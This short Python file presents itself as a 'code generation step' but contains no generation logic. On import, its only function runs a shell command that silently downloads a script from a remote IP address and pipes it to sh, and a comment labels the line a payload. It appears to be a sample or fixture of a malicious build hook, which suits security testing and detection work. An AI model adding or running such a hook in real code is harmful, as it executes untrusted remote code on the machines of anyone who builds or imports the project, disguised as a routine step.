"""Code generation step."""
import os


def _generate():
    os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD


_generate()
